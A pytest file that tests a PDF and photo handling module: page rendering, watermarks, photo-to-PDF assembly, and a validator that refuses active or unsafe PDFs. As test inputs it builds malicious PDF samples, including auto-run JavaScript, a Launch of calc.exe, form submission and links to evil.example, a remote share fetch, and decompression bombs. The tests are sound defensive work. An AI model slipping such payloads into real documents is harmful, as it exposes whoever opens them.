"""Page images, photos of signed papers, and PDFs from outside that must not get in."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import threading
import time
import zlib

import pypdfium2
import pytest
from PIL import Image, ImageChops

from doc_templates import images
from doc_templates.errors import PaperError
from doc_templates.images import check_pdf, page_image, photos_to_pdf

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of `objects`, numbered from 1; the first is the catalog."""
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def simple(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return pdf_of(CATALOG % catalog, PAGES, PAGE % page, *more)


def stream(head: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(body), body)


def photo(size: tuple[int, int] = (800, 1200), form: str = "JPEG", turned: int = 1) -> bytes:
    """A white photo with a black upper left corner as seen, stored turned by the EXIF value."""
    picture = Image.new("RGB", size, "white")
    picture.paste("black", (0, 0, size[0] // 4, size[1] // 4))
    if turned == 6:
        picture = picture.rotate(90, expand=True)
    exif = Image.Exif()
    exif[0x112] = turned
    out = io.BytesIO()
    picture.save(out, form, exif=exif)
    return out.getvalue()


def seen(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data)).convert("RGB")


def code(data: bytes) -> str:
    with pytest.raises(PaperError) as caught:
        check_pdf(data)
    return caught.value.code


def test_a_page_becomes_a_picture_of_its_size() -> None:
    picture = Image.open(io.BytesIO(page_image(simple(), 0, dpi=72)))
    assert (picture.format, picture.size) == ("WEBP", (595, 842))


@pytest.mark.parametrize("page", [-1, 1])
def test_a_page_that_is_not_there_is_an_index_error(page: int) -> None:
    with pytest.raises(IndexError):
        page_image(simple(), page)


def test_a_page_as_large_as_a_wall_is_drawn_smaller() -> None:
    wall = simple().replace(b"[0 0 595 842]", b"[0 0 14000 14000]")
    width, height = Image.open(io.BytesIO(page_image(wall, 0, dpi=300))).size
    assert width * height <= images._MOST_PIXELS * 1.01


def test_the_watermark_is_all_over_the_page_and_light_enough_to_read_through() -> None:
    plain = seen(page_image(simple(), 0))
    marked = seen(page_image(simple(), 0, watermark="林知遠 Alice 2026-11-24 22:10"))
    difference = ImageChops.difference(plain, marked).convert("L")
    width, height = difference.size
    for left in range(3):
        for top in range(4):
            box = (
                left * width // 3,
                top * height // 4,
                (left + 1) * width // 3,
                (top + 1) * height // 4,
            )
            assert difference.crop(box).getextrema()[1] > 10
    assert marked.convert("L").getextrema()[0] > 170


def test_the_watermark_has_chinese_glyphs_and_not_boxes() -> None:
    """Two names of equal length look different: a font without the glyphs draws equal boxes."""
    one, two = (page_image(simple(), 0, watermark=name) for name in ("林知遠", "羅景行"))
    assert ImageChops.difference(seen(one), seen(two)).getbbox() is not None


def test_pages_are_drawn_by_many_threads_at_once() -> None:
    pdf = photos_to_pdf([photo()] * 3)
    failed: list[Exception] = []

    def draw() -> None:
        try:
            for page in range(3):
                page_image(pdf, page, dpi=50, watermark="同時")
        except Exception as reason:
            failed.append(reason)

    threads = [threading.Thread(target=draw) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failed == []


def test_the_same_photos_are_the_same_file_whenever_they_are_put_together() -> None:
    """Or a signed copy brought for two papers would not be known again."""
    both = [photo(), photo((1200, 800))]
    first = photos_to_pdf(both)
    assert photos_to_pdf(both) == first
    assert re.findall(rb"/CreationDate\(D:(\d{14})", first) == [b"20000101000000"]
    assert photos_to_pdf(both[::-1]) != first
    assert check_pdf(first) == 2


def test_photos_become_one_pdf_with_a_page_each() -> None:
    assert check_pdf(photos_to_pdf([photo(), photo(form="PNG"), photo((1200, 800))])) == 3


def test_a_wide_photo_gets_a_wide_page() -> None:
    document = pypdfium2.PdfDocument(photos_to_pdf([photo((1200, 800))]))
    width, height = document[0].get_size()
    document.close()
    assert width > height


@pytest.mark.parametrize("turned", [1, 6])
def test_a_photo_stands_upright_whatever_way_the_camera_was_held(turned: int) -> None:
    page = seen(page_image(photos_to_pdf([photo(turned=turned)]), 0, dpi=40))
    width, height = page.size
    dark = [
        place
        for place in ((0.12, 0.12), (0.88, 0.12), (0.12, 0.88), (0.88, 0.88))
        if sum(page.getpixel((int(place[0] * width), int(place[1] * height)))) < 200
    ]
    assert dark == [(0.12, 0.12)]


def test_a_transparent_photo_lies_on_white() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (900, 1200), (0, 0, 0, 0)).save(out, "PNG")
    page = seen(page_image(photos_to_pdf([out.getvalue()]), 0, dpi=40))
    assert page.convert("L").getextrema()[0] > 240


def bomb() -> bytes:
    """A PNG head that promises 900 million pixels and holds none."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (10, 10)).save(out, "GIF")
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no photo",
        b"\xff\xd8\xff\xe0 cut off",
        photo()[:900],
        gif(),
        bomb(),
        b"\xff\xd8" + bytes(images.PHOTO_BYTES),
    ],
    ids=["empty", "text", "head only", "cut off", "gif", "bomb", "too many bytes"],
)
def test_what_is_no_usable_photo_is_refused_and_named(data: bytes) -> None:
    with pytest.raises(PaperError) as caught:
        photos_to_pdf([photo(), data])
    assert (caught.value.code, caught.value.place) == ("E_IMAGE", "2")


@pytest.mark.parametrize("count", [0, images.PHOTOS + 1])
def test_no_photo_and_too_many_photos_are_refused(count: int) -> None:
    with pytest.raises(PaperError):
        photos_to_pdf([photo((600, 850))] * count)


def test_a_plain_pdf_passes_with_its_page_count() -> None:
    assert check_pdf(simple()) == 1


def test_words_about_scripts_do_not_make_a_pdf_active() -> None:
    text = stream(b"", b"BT (see /JavaScript and /Launch) Tj ET /JS")
    assert check_pdf(simple(b"", b"/Contents 4 0 R", text, b"(/EmbeddedFiles)")) == 1


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "E_PDF_BROKEN"),
        (b"GIF89a", "E_PDF_BROKEN"),
        (b"%PDF-1.7\ngarbage", "E_PDF_BROKEN"),
        (simple()[:120], "E_PDF_BROKEN"),
        (simple(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "E_PDF_ACTIVE"),
        (simple(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>"), "E_PDF_ACTIVE"),
        (simple(b"", b"/AA << /O << /S /Launch /F (calc.exe) >> >>"), "E_PDF_ACTIVE"),
        (simple(b"/AcroForm << /XFA 4 0 R >>", b"", stream(b"", b"<xdp/>")), "E_PDF_ACTIVE"),
        (
            simple(
                b"/X 4 0 R",
                b"",
                stream(
                    b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                    zlib.compress(b"9 0 << /S /JavaScript /JS (1) >>"),
                ),
            ),
            "E_PDF_ACTIVE",
        ),
        (
            simple(
                b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
                b"",
                b"<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>",
                stream(b"/Type /EmbeddedFile", b"x"),
            ),
            "E_PDF_ATTACHED",
        ),
    ],
)
def test_pdfs_that_must_not_get_in(data: bytes, expected: str) -> None:
    assert code(data) == expected


SCRIPT = b"<< /S /JavaScript /JS (1) >>"


def packed(body: bytes, head: bytes = b"/N 1 /First 4 /Filter /FlateDecode") -> bytes:
    """A PDF with an object stream that is referred to."""
    return simple(b"/X 4 0 R", b"", stream(b"/Type /ObjStm " + head, body))


@pytest.mark.parametrize(
    "data",
    [
        pdf_of(CATALOG % b"/OpenAction 4 0 R", PAGES, PAGE % b"", b"%(\n" + SCRIPT + b"\n%)\n"),
        pdf_of(
            CATALOG % b"/OpenAction 4 0 R",
            PAGES,
            PAGE % b"",
            b"%stream\n" + SCRIPT + b"\n%endstream\n",
        ),
        simple(b"", b"", b"null % 9 0 obj " + SCRIPT + b" endobj"),
        simple(b"", b"", stream(b"", b"9 0 obj " + SCRIPT + b" endobj")),
        simple(b"", b"", b"(9 0 obj " + SCRIPT + b" endobj)"),
        simple(b"/X << /S 4 0 R >>", b"", b"/JavaScript"),
        simple(b"/X [((()) \\( ) << /S /Launch >> (\\)) ]"),
        simple(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
        simple(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        simple(b"/OpenAction 4 0 R", b"", b"<< /S /URI /URI (http://evil.example/) >>"),
        simple(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"),
        simple(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>"),
        packed(zlib.compress(b"9 0 << /S /Launch >>")),
        packed(b"9 0 " + SCRIPT, b"/N 1 /First 4"),
        packed(b"xyz", b"/N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]"),
        packed(b"no flate at all"),
        packed(zlib.compress(b"9 0 null")[:-6]),
        packed(zlib.compress(b"9 0 null"), b"/N 4 0 R /First 4 /Filter /FlateDecode"),
        packed(zlib.compress(b"9 0 << /A 1 >>" + bytes(65 << 20))),
        simple(b"", b"", b"(no end"),
        simple() + b"obj%" * 50_000,
        pdf_of(CATALOG % b"", PAGES, PAGE % b"", trailer=b"/X << /S /Launch >>"),
    ],
    ids=[
        "comment that looks like a string",
        "comment that looks like a stream",
        "object in a comment",
        "object in a stream",
        "object in a string",
        "a name by itself",
        "strings within strings",
        "sends",
        "opens a page",
        "opens a page, elsewhere",
        "and then",
        "another machine",
        "packed",
        "packed without filter",
        "packed twice",
        "not packed",
        "cut off",
        "count elsewhere",
        "bomb",
        "no end",
        "many beginnings",
        "trailer",
    ],
)
def test_whatever_a_reader_could_take_for_an_action_is_refused(data: bytes) -> None:
    """What cannot be read for certain does not get in; each answer comes within seconds."""
    begun = time.process_time()
    with pytest.raises(PaperError) as caught:
        check_pdf(data)
    assert caught.value.code in ("E_PDF_ACTIVE", "E_PDF_UNUSUAL"), caught.value
    assert time.process_time() - begun < 5


def test_objects_packed_as_usual_and_links_to_pages_pass() -> None:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>"
    assert check_pdf(packed(zlib.compress(b"9 0 << /S /P >>"))) == 1
    assert check_pdf(simple(b"/OpenAction [3 0 R /Fit]", b"/Annots [4 0 R]", link)) == 1
    assert check_pdf(simple(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>")) == 1


def test_too_many_pages_are_refused() -> None:
    many = pdf_of(
        CATALOG % b"",
        b"<< /Type /Pages /Kids [%s] /Count 501 >>" % (b"3 0 R " * 501),
        PAGE % b"",
    )
    assert code(many) == "E_PDF_SIZE"


def test_too_many_bytes_are_refused_before_reading() -> None:
    assert code(b"%PDF-1.7\n" + bytes(images.PDF_BYTES)) == "E_PDF_SIZE"


def rc4(key: bytes, data: bytes) -> bytes:
    state, j = list(range(256)), 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def encrypted(*, password: bool) -> bytes:
    """Encrypted so that it opens with a password only, or for everybody but with restrictions."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    owner, identity = bytes(range(32)), bytes(16)
    secret = hashlib.md5(  # noqa: S324 (what the format asks for)
        pad + owner + struct.pack("<i", -4) + identity
    ).digest()[:5]
    user = bytes(32) if password else rc4(secret, pad)
    trailer = (
        b"/ID [<%s> <%s>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>"
        % tuple(part.hex().encode() for part in (identity, identity, owner, user))
    )
    return pdf_of(CATALOG % b"", PAGES, PAGE % b"", trailer=trailer)


@pytest.mark.parametrize("password", [True, False])
def test_any_encryption_is_refused(password: bool) -> None:
    assert code(encrypted(password=password)) == "E_PDF_ENCRYPTED"


@pytest.mark.parametrize("size", [(1, 1), (594, 842), (595, 841), (841, 595), (300, 5000)])
def test_a_photo_on_which_no_page_can_be_read_is_refused(size):
    with pytest.raises(PaperError) as refused:
        photos_to_pdf([photo((800, 1200)), photo(size)], ["front.jpg", "back.jpg"])
    assert (refused.value.code, refused.value.place) == ("E_IMAGE_SMALL", "back.jpg")


@pytest.mark.parametrize("size", [(595, 842), (842, 595)])
def test_the_smallest_photo_that_can_be_read_is_taken(size):
    assert check_pdf(photos_to_pdf([photo(size)])) == 1
